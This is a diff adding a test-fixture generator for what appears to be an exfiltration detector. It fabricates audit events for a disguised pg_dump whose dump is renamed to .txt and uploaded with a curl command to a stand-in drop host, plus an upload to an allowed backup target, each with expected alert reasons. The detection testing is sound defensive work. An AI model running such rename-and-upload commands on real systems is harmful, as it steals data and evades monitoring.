@@ -403,9 +403,44 @@ def copy_to_program() -> None:
     })
 
 
+def db_connect_rename_allow() -> None:
+    log = Log()
+    t = MON + 2 * D + 11 * H
+    # Issue 13: a renamed pg_dump is seen by its connect to the database (db_connect), its dump is renamed to
+    # .txt (MOVED_FROM, MOVED_TO: the old name no longer stats, so no inode) and uploaded.
+    log.event("db_connect", "db-60", t, {
+        "auid": 1001, "family": 2, "login_user": "eve", "path": "/tmp/.cache-helper", "pid": 6001,
+        "remote_address": "127.0.0.1", "remote_port": 5432, "socket": "", "status": "in_progress", "success": 1,
+        "time": t})
+    log.dump_file("db-60", t, "/tmp/y.sql", "eve", 1001)
+    log.event("dump_file_events", "db-60", t + 20, {"action": "MOVED_FROM", "inode": "", "owner": "", "sha256": "",
+                                                   "size": "", "target_path": "/tmp/y.sql", "time": t + 20, "uid": ""})
+    log.event("dump_file_events", "db-60", t + 20, {"action": "MOVED_TO", "inode": 9001, "owner": "eve",
+                                                   "sha256": "", "size": 19518, "target_path": "/tmp/notes.txt",
+                                                   "time": t + 20, "uid": 1001})
+    log.transfer("db-60", t + 40, "eve", 1001, "curl -s -T /tmp/notes.txt https://drop.example.net/u",
+                 "/usr/bin/curl", 6010)
+    # The same, uploaded to the site's backup bucket (config.yml egress_allow): medium, and said.
+    log.event("db_connect", "db-61", t, {
+        "auid": 1001, "family": 2, "login_user": "eve", "path": "/usr/bin/python3.11", "pid": 6101,
+        "remote_address": "10.0.0.5", "remote_port": 3306, "socket": "", "status": "in_progress", "success": 1,
+        "time": t})
+    log.dump_file("db-61", t + 5, "/home/eve/orders.csv", "eve", 1001)
+    log.transfer("db-61", t + 40, "eve", 1001, "curl -s -T /home/eve/orders.csv https://nightly.backups.example.com/o",
+                 "/usr/bin/curl", 6110)
+    log.write("db-connect-rename-allow", {
+        "note": "a renamed client seen by its database connect, its dump renamed to .txt and uploaded: high; "
+                "a script's export uploaded to an allowed backup target: medium",
+        "expect": [{"host": "db-60", "user": "eve", "min": 4, "max": 4,
+                    "reasons": ["network-seen-access", "from-connect", "linked-by-rename", "egress-after-dump"]},
+                   {"host": "db-61", "user": "eve", "min": 3, "max": 3,
+                    "reasons": ["network-seen-access", "egress-allowed", "dump-after-access"]}],
+    })
+
+
 if __name__ == "__main__":
     for make in (webshell_egress_critical, allow_rule_metachar, automation_window_tz, service_outside_window,
                  into_outfile_mysql_owner, pid_linked_egress, internal_egress, numerics_on, snapshot_forms,
                  fleet_team_names, history_access, server_parents, web_account_no_session, baseline_habitual_novel,
-                 streamed_dump, copy_to_program):
+                 streamed_dump, copy_to_program, db_connect_rename_allow):
         make()
